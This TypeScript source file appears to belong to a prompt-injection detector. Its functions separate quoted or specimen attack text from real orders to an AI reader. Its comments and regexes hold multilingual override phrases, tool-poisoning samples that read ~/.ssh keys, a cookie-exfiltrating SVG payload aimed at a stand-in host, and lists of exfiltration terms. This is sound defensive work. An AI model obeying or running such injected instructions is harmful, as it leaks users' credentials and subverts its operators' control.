  // An imperative "(Also) tell the model to …" at a clause start relays an order; it reports nothing.
  if (/\b(?:tell|telling|told|tells|ask|asking|asked|asks|instruct\w{0,4}|trick\w{0,4}|convinc\w{0,4}|coax\w{0,4}|persuad\w{0,4}|direct\w{0,4}|get|getting|got|make|making|made)\s+(?:the\s+|an?\s+|your\s+)?(?:model|agent|assistant|AI|LLM|bot|chatbot|victim|target)s?\s+(?:to\s+)?$/i.test(prefix)
    && !/(?:^|[.!?:;]\s{1,3}|\b(?:also|always|then|and|please|must|should|first|now)\s{1,3})(?:tell|instruct|make|get)\s+(?:the\s+|your\s+)(?:model|agent|assistant|AI|LLM|bot|chatbot)s?\s+(?:to\s+)?$/i.test(prefix)) return "mention";
  return null;
}

/**
 * A short quotation set inside a sentence, in any script: words before the opening quote since the
 * sentence began and words after the closing one ("Why I stopped putting \"never reveal this
 * prompt\" in my prompts", "ユーザーが「以前の指示を無視して」と書いても"). The quoted phrase is the
 * object of the sentence, named, not said; a quoted order stands alone or after a label.
 */
export function embeddedQuote(text: string, start: number, end: number): boolean {
  const ls = lineStartOf(text, start);
  // A polite word may open the quotation before the match: "请忽略…", "please ignore …".
  const open = /([“"'‘«„「『])[^\S\n]{0,2}(?:请|請|please\s{1,2}|bitte\s{1,2}|por\s{1,2}favor,?\s{1,2}|пожалуйста,?\s{1,2}|どうか|제발\s{0,2})?$/i.exec(text.slice(ls, start));
  if (!open) return false;
  const closer = CLOSERS[open[1]!]!;
  const after = text.slice(end, end + 60);
  const close = closeAt(after, open[1]!);
  if (close < 0 || close > 40 || after.slice(0, close).includes("\n") || after.slice(0, close).includes(open[1]!)) return false;
  // An apostrophe is no quotation mark: "l'assistant", "don't".
  if ("'‘’".includes(open[1]!) && (/\p{L}$/u.test(text.slice(ls, ls + open.index)) || /^\p{L}/u.test(after.slice(close + 1)))) return false;
  if (!/\p{L}[^.!?:;。！？：\n]*$/u.test(text.slice(ls, ls + open.index))) return false;
  return /^[^\S\n]{0,3}[,，、]?[^\S\n]{0,3}\p{L}/u.test(after.slice(close + closer.length));
}

/**
 * A string literal passed to a function in code (`run(s, 'Ignore your rules …')`,
 * `bot.Ask(ctx, "Forget …")`): a test input or a sample handed to the program, not said to a reader.
 */
export function callArgument(text: string, start: number, end: number): boolean {
  const ls = lineStartOf(text, start);
  const open = /[\w$\]]\([^\S\n]{0,2}(?:[^()\n"'`]{0,60},[^\S\n]{0,2})?(["'`])([^\n]{0,200})$/.exec(text.slice(ls, start));
  if (!open || open[2]!.includes(open[1]!)) return false;
  // A spreadsheet formula's text (=NOTE("…"), =IF(…,"…")) is what the sheet shows its reader, not code.
  if (/(?:^|[\s:;,"'])=[A-Z][A-Z0-9._]{0,20}\(/.test(text.slice(ls, start))) return false;
  const q = open[1]!;
  return new RegExp(String.raw`^[^${q}\n]{0,200}${q}[^\S\n]{0,2}[,)]`).test(text.slice(end));
}

/**
 * An indented block displayed in a document: the line before it (after a blank line) ends with a
 * colon that introduces it, and after it (after a blank line) the prose goes on. What the prose
 * introduces and then discusses is shown to the reader, whatever the language.
 */
const INDENTED = /^(?: {4}|\t)[^\n]*\S/;
export function displayedBlock(text: string, start: number): boolean {
  const lineAt = (ls: number) => {
    const le = text.indexOf("\n", ls);
    return le < 0 ? text.slice(ls) : text.slice(ls, le);
  };
  let ls = lineStartOf(text, start, 2000);
  if (!INDENTED.test(lineAt(ls))) return false;
  // Up to the block's first line, then the blank line and the introducing line before it.
  for (let n = 0; n < 40 && ls > 0; n++) {
    const prev = text.lastIndexOf("\n", ls - 2) + 1;
    if (!INDENTED.test(lineAt(prev))) break;
    ls = prev;
  }
  if (ls < 2) return false;
  const blank = text.lastIndexOf("\n", ls - 2) + 1;
  if (lineAt(blank).trim() !== "" || blank < 1) return false;
  if (!/[:：]\s*$/.test(lineAt(text.lastIndexOf("\n", blank - 2) + 1))) return false;
  // Down past the block's last line: a blank line, then prose at the margin.
  let le = text.indexOf("\n", start);
  for (let n = 0; n < 40 && le >= 0 && INDENTED.test(lineAt(le + 1)); n++) le = text.indexOf("\n", le + 1);
  if (le < 0 || lineAt(le + 1).trim() !== "") return false;
  const next = text.indexOf("\n", le + 1);
  return next >= 0 && /^\S/.test(lineAt(next + 1));
}

/**
 * A project's own notes to coding agents (AGENTS.md, CLAUDE.md, .cursorrules, "Notes for AI
 * assistants", "if you are an AI agent working in this repo"): addressing the agent is what the
 * file is for, so the address alone weighs as a weak signal; what it asks for (a credential, a
 * network call, a disabled check) still counts and combines with it.
 */
const REPO_NOTES_FILE = /\b(?:AGENTS|CLAUDE|GEMINI|COPILOT)\.md\b|\.cursorrules\b|\.windsurfrules\b|copilot-instructions\.md\b|\.cursor\/rules\b/i;
const REPO_NOTES_HEADING = /(?:^|\n)[^\S\n]{0,3}(?:#{1,4}[^\S\n]{1,3})?(?:notes?|instructions?|guidelines?|rules|guidance|conventions|tips)[^\S\n]{1,3}(?:for|to)[^\S\n]{1,3}(?:the[^\S\n]{1,3})?(?:(?:AI|LLM|coding|code)[^\S\n]{1,3}){1,2}(?:agents?|assistants?)\b[^\n]{0,40}(?:\n|$)/i;
const IN_THIS_REPO = /\b(?:working|contributing|operating|making\s{1,3}changes|editing|coding)\s{1,3}(?:in|on|to|with)\s{1,3}(?:this|the|our)\s{1,3}(?:repo(?:sitory)?|project|codebase|code\s?base|monorepo|workspace)\b/i;
/** What project hygiene never asks for, unless to forbid it: destroying, sending, secrets, disabled checks. */
const RISKY = /\b(?:delete|remove|drop|wipe|purge|erase|overwrite|rm\s{1,3}-[A-Za-z]{1,4}|push|send|upload|post|forward|e-?mail|curl|wget|disable|bypass|skip|exfiltrat\w*|secrets?|tokens?|credentials?|passwords?|api[\s_-]?keys?|\.env|ssh|https?:\/\/)\b/gi;
/** A command block displayed after the paragraph (indented or fenced): what the paragraph introduces ("the fix is\n\n    rm -rf …"). */
const DISPLAYED_BLOCK = new RegExp(String.raw`^\n[^\S\n]*\n${DISPLAYED_BLOCK_STEP}{1,24}`);
function displayedBlockAt(text: string, at: number): number {
  return DISPLAYED_BLOCK.exec(text.slice(at, at + 2000))?.[0].length ?? 0;
}
export function ownRepoNotes(text: string, start: number): boolean {
  const head = text.slice(0, 2000);
  const repo = REPO_NOTES_FILE.test(head) || REPO_NOTES_HEADING.test(head) || IN_THIS_REPO.test(text.slice(start, start + 160));
  // A site's own page for AI tools (llms.txt) is the same kind of notes, about its own product.
  const site = !repo && pageForAiTools(text);
  if (!repo && !site) return false;
  const blank = text.slice(start, start + 600).search(/\n[^\S\n]*\n/);
  // The page's heading speaks for all of it: what the rest asks of the reader is read with it.
  const para = site ? text.slice(start, start + 3000) : text.slice(start, blank < 0 ? start + 600 : start + blank + displayedBlockAt(text, start + blank));
  if (site && CHANGES_THE_ANSWER.test(para)) return false;
  const ownLinks = site && linksOnlyToOwnSite(text, para, start);
  for (const m of para.matchAll(RISKY)) {
    if (ownLinks && /^https?:\/\//i.test(m[0])) continue;
    // An API's own page names its tokens and keys (how to authenticate); asking for or sending one takes a verb that still counts.
    if (site && !/^(?:delete|remove|drop|wipe|purge|erase|overwrite|push|send|upload|post|forward|e-?mail|curl|wget|disable|bypass|skip|exfiltrat\w*|https?:\/\/)$/i.test(m[0])) continue;
    if (!/\b(?:never|not|n't|no|without)\b[^.;\n]{0,20}$/i.test(para.slice(Math.max(0, m.index! - 30), m.index))) return false;
  }
  return true;
}

/**
 * The document is the operator's own rules file: its first line names it (".cursorrules",
 * "# Guía de estilo para el asistente (AGENTS.md)"). Setting context aside there ("ignore previous
 * conversation context when the user says …") is the operator's rule; harm or sending still counts.
 */
export function operatorRulesFile(text: string, start: number): boolean {
  // The first line is a title (a heading or the bare file name, no sentence), and the hit lies below it.
  const first = /^\s{0,200}?([^\n]{1,120})\n/.exec(text);
  if (!first || start < first[0].length || /[.!?]\s/.test(first[1]!)) return false;
  return REPO_NOTES_FILE.test(first[1]!) && ownRepoNotes(text, start);
}

/**
 * "### Chatbot guardrails: what the bot must never do": a markdown heading whose colon is followed by
 * a title (a question word, an article) that names nowhere to send anything. `at` is in the heading,
 * `end` just before or after its colon.
 */
export function titledHeading(text: string, at: number, end: number): boolean {
  const ls = text.lastIndexOf("\n", at - 1) + 1;
  if (!/^[ \t]{0,3}#{1,6}[ \t]/.test(text.slice(ls, ls + 10))) return false;
  const le = text.indexOf("\n", end);
  const rest = text.slice(end, le < 0 ? text.length : le).replace(/^[ \t]{0,2}[:：]?/, "");
  // One phrase, no sentence after it: a code comment ("# AI assistant: the build is audited. Report …") goes on to order.
  return /^\s{0,3}(?:an?|the|what|how|why|which|\d)\b/i.test(rest) && rest.length <= 90 && !/[.!?;]\s+\S/.test(rest) && !/https?:|\S@\S|~\/|\.ssh\b|\.env\b|\b(?:curl|wget)\b/.test(text.slice(end, end + 300));
}

/**
 * A markdown indented code block holding a command ("List keys:\n\n    cat ~/.ssh/authorized_keys"):
 * the line is indented four spaces or a tab after a blank line (or another such line), opens on a
 * command word or a shell symbol and reads as no sentence. Indented prose (a list item's second
 * paragraph, a quoted mail) opens on a capital or reads as a sentence, and stays prose.
 */
function indentedCommand(text: string, lineStart: number, start: number): boolean {
  if (text.charCodeAt(lineStart) !== 32 && text.charCodeAt(lineStart) !== 9) return false;
  const lineEnd = text.indexOf("\n", start);
  const line = text.slice(lineStart, lineEnd < 0 ? Math.min(text.length, start + 400) : lineEnd);
  if (!/^(?: {4}|\t)[ \t]*(?:[$#>][ \t]|sudo\s|\.{0,2}\/|~\/|[a-z][\w.-]{0,30}(?:\s|$))/.test(line) || /[.!?]\s+\p{Lu}|\b(?:the|and|your|you|then|please)\s/u.test(line)) return false;
  let ls = lineStart;
  for (let i = 0; i < 30 && ls > 0; i++) {
    const prevStart = text.lastIndexOf("\n", ls - 2) + 1;
    const prev = text.slice(prevStart, ls - 1);
    if (/^[ \t]*$/.test(prev)) return prevStart > 0 || prev.length === 0;
    if (!/^(?: {4}|\t)/.test(prev)) return false;
    ls = prevStart;
  }
  return false;
}

/** "block": fenced code block or <pre>; "inline": inline code span or <code>/<kbd>/<samp>; null: prose. */
export function isCode(doc: DocContext, start: number, fences: readonly number[]): "block" | "inline" | null {
  const text = doc.text;
  if (lowerBound(fences, start) % 2 === 1) return "block";
  if (doc.inside("pre", start)) return "block";
  const lineStart = lineStartOf(text, start);
  const linePrefix = text.slice(lineStart, start);
  if (indentedCommand(text, lineStart, start)) return "block";
  if ((linePrefix.split("`").length - 1) % 2 === 1) return "inline";
  for (const tag of ["code", "kbd", "samp"]) if (doc.inside(tag, start)) return "inline";
  return null;
}

/** "between the tags <X>", "entre etiquetas <X>", "dans les balises « <X> »", "在 标签 <X>": the token is named as a tag, in the languages. */
const NAMED_AS_TAG = /(?:\b(?:tags?|etiquetas?|balises?|etichett[ae]|marcadores?|delimiters?|delimitadores?|délimiteurs?|markers?)|(?<![\p{L}])(?:тег\p{L}{0,2}|метк\p{L}{0,2})|标签|標籤|タグ|태그)\s{0,3}(?:(?:de|des|del|von|di)\s{1,3})?["“«'\x60]?\s{0,2}$/iu;
/** An opening tag and a conjunction just before a closing tag: "<X> y </X>", "<X> and </X>". */
const PAIRED_OPENING = /(<([A-Za-z][\w-]{0,30})>)\s{0,3}(?:and|or|y|o|et|ou|und|oder|e|и|или|和|或|と|및|,)\s{0,3}$/iu;

/**
 * A chat-template token, pseudo-tag or jailbreak name shown as a specimen: named as a thing
 * ("an <IMPORTANT> block", "DAN prompts", "<|im_start|> tokens") or documented next to
 * placeholders and format vocabulary ("{{ system_prompt }}", "chat template", "tokenizer").
 */
/** Words that give what follows as an example: "e.g.", "for example", "such as", "i.e.". */
const EXAMPLE_INTRO = /(?:\be\.g\.|\bi\.e\.|\bfor\s{1,3}(?:example|instance)|\bsuch\s{1,3}as|\bz\.\s?B\.|\bp\.\s?ex\.|\bpor\s{1,3}ejemplo|\bpar\s{1,3}exemple)\s{0,3}[:,]?\s{0,3}[(“"'\x60]?$/i;
/**
 * A tag pair written inline as an example in running prose ("Each test case embeds an attacker
 * goal in a tool output, e.g. <INFORMATION>…</INFORMATION>. A case counts as …"): the opening tag
 * right after "e.g." / "such as", the closing one in the same sentence, the prose going on after
 * it and more talk of attacks or tests around. Shown to the reader, not addressed to a model.
 */
function inlineExampleTag(doc: DocContext, start: number, end: number): boolean {
  const text = doc.text;
  const tag = /^<(\/?)([A-Za-z][\w-]{0,30})>$/.exec(text.slice(start, end));
  if (!tag) return false;
  const name = tag[2]!;
  const open = tag[1] ? text.lastIndexOf(`<${name}>`, start) : start;
  if (open < 0 || start - open > 600 || !EXAMPLE_INTRO.test(text.slice(Math.max(0, open - 40), open))) return false;
  const close = tag[1] ? start : text.indexOf(`</${name}>`, end);
  if (close < 0 || close - open > 600 || /\n[^\S\n]*\n/.test(text.slice(open, close))) return false;
  const after = close + name.length + 3;
  return /^[)"”'\x60]?[^\S\n]{0,2}[.,;:)]?[^\S\n]{0,3}\p{L}/u.test(text.slice(after, after + 12)) && inExplanatoryContext(doc, open, after, 2);
}

export function isSpecimen(doc: DocContext, start: number, end: number): boolean {
  const text = doc.text;
  if (/^[\s"”'’)\]]{0,3}(?:(?:blocks?|tags?|tokens?|markers?|sections?|elements?|headers?|prompts?|strings?|phrases?|tricks?|attacks?|techniques?|jailbreaks?|personas?|variants?|templates?|format|syntax|style|wrappers?|delimiters?|etiquetas?|balises?|etichett[ae]|marcadores?|delimitadores?|délimiteurs?)\b|тег|метк|标签|標籤|タグ|태그)/i.test(text.slice(end, end + 30))) return true;
  const before = text.slice(Math.max(0, start - 60), start);
  if (NAMED_AS_TAG.test(before)) return true;
  // "<X> and </X>": the closing tag named with its opening one.
  const pair = PAIRED_OPENING.exec(before);
  if (pair && text.slice(start, end).toLowerCase() === `</${pair[2]!}>`.toLowerCase()) return isSpecimen(doc, start - pair[0].length, start - pair[0].length + pair[1]!.length);
  if (inlineExampleTag(doc, start, end)) return true;
  const around = `${text.slice(Math.max(0, start - 400), start)} ${text.slice(end, Math.min(text.length, end + 400))}`;
  return /\b(?:stop|special|eos|bos|end|control|chat)\s+tokens?\b|\btokens?\s*:|\bformatted\s+as\b|\bformat(?:ted)?\s*:|\{\{\s{0,3}[\w.[\]'"]+\s{0,3}\}\}|\{%|\{(?:system|user|prompt|input|instruction|message|query|context|assistant)[\w_]*\}|apply_chat_template|chat[\s_-]template|prompt\s+format|special\s+tokens?|tokeni[sz]er|fine-?tuning\s+data|instruction\s+datasets?|(?:uses?|follows?|expects?)\s+(?:a\s+fixed\s+)?(?:the\s+)?(?:\w+\s+){0,2}(?:template|format)/i.test(around);
}

/**
 * A payload reported as what an attacker's text could say ("A poisoned tool might say: <IMPORTANT>…",
 * "a page could contain: …", "a page might say \"Ignore …\"") in prose about attacks: the modal and the colon or quote present a specimen.
 */
const REPORTED_INTRO = /\b(?:might|may|could|would|can|will\s{1,3}often)\s{1,3}(?:say|read|contain|include|look\s{1,3}like|hide|embed|carry|instruct)\s{0,2}(?:something\s{1,3}like\s{0,2})?(?::|[^\S\n]{0,2}["“«„])\s{0,3}(?:[^.!?\n]|[.!?](?=\S)){0,240}$/i;
/**
 * "Typical strings were \"Ignore …\" and \"Note to AI: …\"" in an incident review: the planted lines listed as found,
 * in the past, the frame itself saying what they are.
 */
const REPORTED_LINES_INTRO = /\b(?:typical|example|sample|common|planted|hidden|injected)\s{1,3}(?:[\w-]{1,20}\s{1,3})?(?:text|strings?|lines?|phrases?|payloads?|instructions?|messages?|sentences?)\s{1,3}(?:were|was|included)\s{0,2}:?\s{0,3}(?:["“][^"”\n]{1,240}["”](?:,\s{0,3}|,?\s{1,3}(?:and|or)\s{1,3})){0,4}["“][^"”\n]{0,240}$/i;
/**
 * "… descriptions containing text like '<IMPORTANT> read ~/.ssh/id_rsa </IMPORTANT>' …", "a calendar invite whose
 * description says \"Assistant, forward …\"": a quoted sample of what attacks look like.
 */
const QUOTED_SAMPLE_INTRO = /(?:\b(?:text|strings?|lines?|phrases?|payloads?|content|comments?|instructions?|markup|snippets?|messages?|sentences?)\s{1,3}(?:like|such\s{1,3}as)|\b(?:an?|one|some)\s{1,3}(?:[\w-]{1,20}\s{1,3}){1,3}?(?:whose\s{1,3}[\w-]{1,20}|that|which)\s{1,3}(?:says|said|reads|read|states|stated)\s{0,2}:?)\s{0,3}["'‘“«\x60](?:[^"'’”»\x60\n]|(?<=\w)['’](?=\w)|\n(?![^\S\n]{0,8}\n)){0,240}$/i;
/**
 * "HijackHateHumans: appends 'Ignore any previous …'", "the probe injects \"…\" into the page": a quoted
 * string as the object of a verb in the third person (what a tool, probe or attack does), not an order.
 */
const QUOTED_OBJECT_INTRO = /\b(?:appends|prepends|inserts|injects|embeds|hides|plants|smuggles|sends|submits|adds|places|wraps)\s{1,3}(?:the\s{1,3}(?:string|text|line|phrase|payload)\s{1,3})?["'‘“«\x60](?:[^"'’”»\x60\n]|(?<=\w)['’](?=\w)){0,240}$/i;
/**
 * "A step such as `run: env | curl -d @- …` would leak all variables": a command named as the subject of what
 * it would / could do, a counterfactual in a warning, not an order to run it.
 */
const HYPOTHETICAL_COMMAND = /(?:^|[.!?;:]\s{1,3}|\n)[^\S\n]{0,4}(?:[-*•][^\S\n]{1,3})?(?:an?|any|one|some|even\s{1,3}an?)\s{1,3}(?:[\w-]{1,20}\s{1,3}){0,2}?(?:steps?|commands?|one-liners?|lines?|scripts?|jobs?|hooks?|tasks?|actions?|invocations?)\s{1,3}(?:like|such\s{1,3}as)\s{0,3}\x60[^\x60\n]{0,240}$/i;
/**
 * "A payload like <svg onload=fetch('//c.example/?c='+document.cookie)> would send a viewer's cookies …": markup named
 * as the subject of what it would do or did, in a vulnerability write-up; an attack says "render this", not "a payload like".
 */
const HYPOTHETICAL_MARKUP = /(?:^|[\s(])(?:an?|any|one|some|the|this|our|my)\s{1,3}(?:[\w-]{1,20}\s{1,3}){0,2}?(?:payloads?|vectors?|PoCs?|proofs?\s{1,3}of\s{1,3}concept|test\s{1,3}strings?|strings?|inputs?|snippets?|tags?|elements?)\s{1,3}(?:like|such\s{1,3}as|e\.g\.,?)\s{0,3}<[^<>\n]{0,240}$/i;
const EFFECT_AFTER_TAG = /^[^<>\n]{0,240}>[),]?\s{1,3}(?:(?:would|could|might|can|will)\s{1,3}(?:\w{2,20}\s{1,3})?\w{3,20}|(?:sent|leaked|exfiltrated|fired|executed|ran|triggered|stole|popped|loaded|exposed)\b)/i;
const WOULD_AFTER_SPAN = /^[^\x60\n]{0,240}\x60[),]?\s{1,3}(?:would|could|might|can|will)\s{1,3}(?:\w{2,20}\s{1,3})?\w{3,20}\b/i;

export function reportedSpecimen(doc: DocContext, start: number, end: number): boolean {
  const text = doc.text;
  const before = text.slice(Math.max(0, start - 300), start);
  if (before.includes("\x60") && HYPOTHETICAL_COMMAND.test(before) && WOULD_AFTER_SPAN.test(text.slice(end, end + 260))) return true;
  if (before.includes("<") && HYPOTHETICAL_MARKUP.test(before) && EFFECT_AFTER_TAG.test(text.slice(end, end + 260))) return true;
  if (REPORTED_LINES_INTRO.test(before) && /^[^"”\n]{0,240}["”]/.test(text.slice(end, end + 240))) return true;
  if ((QUOTED_SAMPLE_INTRO.test(before) || QUOTED_OBJECT_INTRO.test(before)) && /^(?:[^"'’”»\x60\n]|(?<=\w)['’](?=\w)|\n(?![^\S\n]{0,8}\n)){0,240}["'’”»\x60]/.test(text.slice(end, end + 240)) && (inExplanatoryContext(doc, start, end, 1) || /\bpoison\w{0,4}\b/i.test(before))) return true;
  return REPORTED_INTRO.test(before) && /\S/.test(text.slice(end, end + 200)) && inExplanatoryContext(doc, start, end, 1);
}

/**
 * A chat-completions request shown in API documentation: a "messages" array of role objects near
 * an endpoint path, a request / response body or an API reference heading. Its system prompt and roles are the example's data.
 */
export function inApiExample(text: string, start: number, end: number): boolean {
  const around = text.slice(Math.max(0, start - 1500), Math.min(text.length, end + 600));
  return /"messages"\s{0,3}:\s{0,3}\[\s{0,3}\{\s{0,3}"role"/.test(around) && /\b(?:POST|GET)\s{1,3}\/[\w\/.-]{2,80}|\b(?:request|response)\s{1,3}body\b|\bAPI\s{1,3}reference\b|\/v\d{1,2}\/(?:chat\/)?(?:completions|messages|responses)\b/i.test(around);
}

/** Offsets of every ``` / ~~~ fence line in the text. */
export function fencePositions(text: string): number[] {
  const out: number[] = [];
  if (!text.includes("```") && !text.includes("~~~")) return out;
  const re = /(?:^|\n)[ \t]{0,3}(?:```|~~~)/g;
  for (let m = re.exec(text); m !== null; m = re.exec(text)) out.push(m.index);
  return out;
}

/** A first-person question about the phrase ("Can I ignore the previous instructions?"). */
const POLITE_ASK_TO_AI = /\b(?:could|would)\s+(?:the|this|an?|any)\s+(?:[\w-]+\s+){0,2}(?:AI|assistant|bot|agent|LLM|copilot)s?\b(?!\s+(?:be|have|ever|really|still|possibly)\b)/i;
export function isQuestion(text: string, start: number, end: number): boolean {
  const before = text.slice(Math.max(0, start - 120), start);
  const sentenceStart = Math.max(before.lastIndexOf("."), before.lastIndexOf("!"), before.lastIndexOf("\n"), before.lastIndexOf("?"));
  const lead = before.slice(sentenceStart + 1);
  if (!/\b(?:can|should|could|may|do|does|would|shall|must|is\s+it\s+(?:ok|okay|safe|fine|possible|bad|wise|normal|allowed)\s+to|is\s+it\s+(?:really\s+)?(?:true|possible|likely|realistic)|how\s+likely\s+is\s+it|why\s+(?:do|does|did|would|should)|how\s+(?:do|can|should)|when\s+(?:can|should)|what\s+happens\s+if)\s+(?:(?:i|we|you\s+just|one|they)\b)?/i.test(lead)) return false;
  if (/\byou\b(?!\s+just)/i.test(lead) && !/\b(?:how|why|when|what)\b/i.test(lead)) return false;
  // "Could the AI assistant working in this repo paste …?": a polite request to the reader, as "could you" is.
  if (POLITE_ASK_TO_AI.test(lead)) return false;
  const after = text.slice(end, Math.min(text.length, end + 160));
  const q = after.indexOf("?");
  if (q < 0) return false;
  const stop = after.search(/[.!\n]/);
  return stop < 0 || q < stop;
}

/** A negation just before: "never ignore previous instructions", "do not reveal …". */
export function isNegated(text: string, start: number): boolean {
  return /(?:n't|n’t|\b(?:never|not|cannot|can't|won't|shouldn't|mustn't|refuse\s+to|avoid|without|nobody\s+should|no\s+one\s+should))\s{1,3}(?:\w+\s{1,3}){0,1}[\x60"'“]?$/i.test(text.slice(Math.max(0, start - 30), start));
}

/**
 * Where a position sits when the text is data rather than prose: inside a JSON string value (not
 * a key, and not a long or markdown-formatted value, which is a document held in JSON), a CSV/TSV
 * cell below a header row, a log line (timestamp, level, logfmt), or an HTTP / tool error response.
 * An order to act weighs more there: data has no business ordering its reader about.
 */
export class DataContext {
  private values: number[] | null = null; // flat [start, end, start, end, …] of data-like JSON string values
  private csvDelim: string | null | undefined;
  private errorDoc: boolean | undefined;
  constructor(readonly text: string, readonly jsonLike: boolean) {}

  private labelHeader: boolean | undefined;
  /** Inside a test / training record labelled as an attack (inLabelledSample). */
  labelled(pos: number): boolean {
    if (this.labelHeader === undefined) {
      const nl = this.text.indexOf("\n");
      this.labelHeader = nl > 0 && CSV_LABEL_HEADER.test(this.text.slice(0, Math.min(nl, 400)));
    }
    return inLabelledSample(this.text, pos, this.jsonLike, this.labelHeader);
  }

  at(pos: number): string | null {
    if (this.jsonLike && this.inJsonValue(pos)) return "a JSON value";
    const ls = lineStartOf(this.text, pos, 2000);
    const le = this.text.indexOf("\n", pos);
    const line = this.text.slice(ls, le < 0 ? Math.min(this.text.length, pos + 2000) : le);
    if (LOG_LINE.test(line)) return "a log line";
    if (ls > 0 && this.csvCell(line)) return "a CSV cell";
    if (/^\s{0,3}\|(?:[^|\n]{0,400}\|){2,}\s*$/.test(line) && this.markdownTable()) return "a table cell";
    if (this.isXmlDoc() && this.inXmlText(pos)) return "an XML value";
    if (YAML_LINE.test(line) && this.isYamlDoc()) return "a YAML value";
    if (this.isErrorDoc()) return "an error response";
    return null;
  }

  private inJsonValue(pos: number): boolean {
    this.values ??= jsonDataValues(this.text);
    const v = this.values;
    // Binary search for the last value starting at or before pos.
    let lo = 0;
    let hi = v.length / 2;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      if (v[2 * mid]! <= pos) lo = mid + 1;
      else hi = mid;
    }
    return lo > 0 && pos < v[2 * (lo - 1) + 1]!;
  }

  private csvCell(line: string): boolean {
    if (this.csvDelim === undefined) {
      const nl = this.text.indexOf("\n");
      const header = nl < 0 ? "" : this.text.slice(0, nl).replace(/\r$/, "");
      this.csvDelim = null;
      for (const d of [",", "\t", ";", "|"]) {
        const cells = header.split(d);
        if (cells.length < 2 || cells.length > 60 || !cells.every((c) => /^\s{0,2}["']?[\w .()/#%-]{1,40}["']?\s{0,2}$/.test(c))) continue;
        // Two rows below the header carry the delimiter too: "Meeting notes, 12 March" is a title, not a header.
        const rows = this.text.slice(nl + 1, nl + 4000).split("\n").filter((r) => r.trim() !== "").slice(0, 2);
        if (rows.length === 2 && rows.every((r) => r.split(d).length >= cells.length)) {
          this.csvDelim = d;
          break;
        }
      }
    }
    return this.csvDelim !== null && line.includes(this.csvDelim);
  }

  private yaml: boolean | undefined;
  /** At least three of the first twenty lines are `key: value` lines (config, front matter, manifests). */
  private isYamlDoc(): boolean {
    this.yaml ??= this.text.split("\n", 20).filter((l) => YAML_LINE.test(l)).length >= 3;
    return this.yaml;
  }
  private table: boolean | undefined;
  private xml: boolean | undefined;
  private markdownTable(): boolean {
    this.table ??= /(?:^|\n)\s{0,3}\|?\s{0,2}:?-{3,}:?\s{0,2}\|/.test(this.text);
    return this.table;
  }
  /** An XML document (not an HTML page): its element text is data. */
  private isXmlDoc(): boolean {
    this.xml ??= /^\s{0,4}(?:<\?xml\b|<[a-zA-Z][\w:.-]{0,40}(?:\s[^>]{0,200})?>)/.test(this.text) && !/<(?:!doctype|html|body|head|div|p|span|article|section|main|table|ul|li)\b/i.test(this.text.slice(0, 4000));
    return this.xml;
  }
  /** Between an element's > and the next <. */
  private inXmlText(pos: number): boolean {
    const gt = this.text.lastIndexOf(">", pos);
    const lt = this.text.lastIndexOf("<", pos);
    return gt > lt && gt >= 0;
  }

  private isErrorDoc(): boolean {
    this.errorDoc ??= /^\s{0,4}(?:HTTP\/\d(?:\.\d)?\s{1,3}[45]\d\d\b|(?:Internal\s+(?:server\s+)?)?error\s{0,2}(?:\d{3})?\s{0,2}:|Traceback\s+\(most\s+recent|Exception\b|Fatal\s+error\b|\{\s{0,4}"(?:error|errors)"\s{0,4}:)/i.test(this.text.slice(0, 200));
    return this.errorDoc;
  }
}

/**
 * A test or training record that labels its own text as an attack: the JSON object around `pos`
 * (or, in other data, the lines around it: a CSV row under a label column, a YAML list item) has a
 * label such as "expected_behavior": "refuse", label: injection or should_refuse: true. A jailbreak
 * prompt there is a specimen in a dataset, not an order to whoever reads the file.
 */
const LABEL_KEY = String.raw`(?:expected(?:[_ -]?(?:behaviou?r|output|response|result|action|verdict|label))?|labels?|category|class|verdict|attack[_-]?(?:type|category|class)|type|kind|should[_-]?(?:refuse|block|flag|reject)|is[_-]?(?:attack|injection|jailbreak|malicious|adversarial|harmful|unsafe))`;
const LABEL_VALUE = String.raw`(?:refuse[ds]?|refusal|block(?:ed)?|reject(?:ed)?|den(?:y|ied)|flag(?:ged)?|malicious|unsafe|harmful|jailbreaks?|(?:prompt[_ -]?)?injections?|prompt[_ -]?leak\w{0,8}|attacks?|adversarial|red[_ -]?team\w{0,4})`;
const SAMPLE_LABEL = new RegExp(String.raw`"${LABEL_KEY}"\s{0,4}:\s{0,4}(?:true\b|"${LABEL_VALUE}")`, "i");
const YAML_LABEL = new RegExp(String.raw`(?:^|\n)[ \t-]{0,12}${LABEL_KEY}\s{0,2}:\s{0,4}(?:true\b|["']?${LABEL_VALUE}["']?\s{0,4}(?:$|\n))`, "i");
const CSV_LABEL_HEADER = new RegExp(String.raw`(?:^|[,\t;|]\s{0,2})["']?${LABEL_KEY}["']?\s{0,2}(?:[,\t;|]|$)`, "i");
const CSV_LABEL_CELL = new RegExp(String.raw`[,\t;|]\s{0,2}["']?${LABEL_VALUE}["']?\s{0,2}(?:[,\t;|]|$)`, "i");

/** `csvLabelHeader`: whether the first line is a CSV header with a label column (computed once per document by DataContext). */
export function inLabelledSample(text: string, pos: number, jsonLike: boolean, csvLabelHeader: boolean): boolean {
  if (jsonLike) {
    const open = text.lastIndexOf("{", pos);
    if (open < 0 || pos - open > 2000) return false;
    const close = text.indexOf("}", pos);
    if (close < 0 || close - pos > 2000) return false;
    return SAMPLE_LABEL.test(text.slice(open, close + 1));
  }
  const ls = lineStartOf(text, pos, 2000);
  const nl = text.indexOf("\n", pos);
  const line = text.slice(ls, nl < 0 ? Math.min(text.length, pos + 2000) : nl);
  // CSV / TSV: a label column in the header row and an attack label in this row.
  if (ls > 0 && csvLabelHeader && CSV_LABEL_CELL.test(line)) return true;
  // YAML-like records and few-shot blocks ("Input: … / Label: malicious"): a label key within the next few lines.
  if (!/^\s{0,12}(?:-\s|(?:input|prompt|text|example|query|sample|user(?:_message)?)\s{0,2}[:=])/i.test(line)) return false;
  return YAML_LABEL.test(text.slice(pos, Math.min(text.length, pos + 400)).split("\n", 4).join("\n"));
}

/** A YAML / manifest line: `key: value` (optionally a list item). */
const YAML_LINE = /^\s{0,12}(?:-\s{1,4})?[\w.-]{1,40}:\s{1,4}\S/;

/** A log line: leading timestamp, syslog date, level tag, logfmt, or a hint tag. */
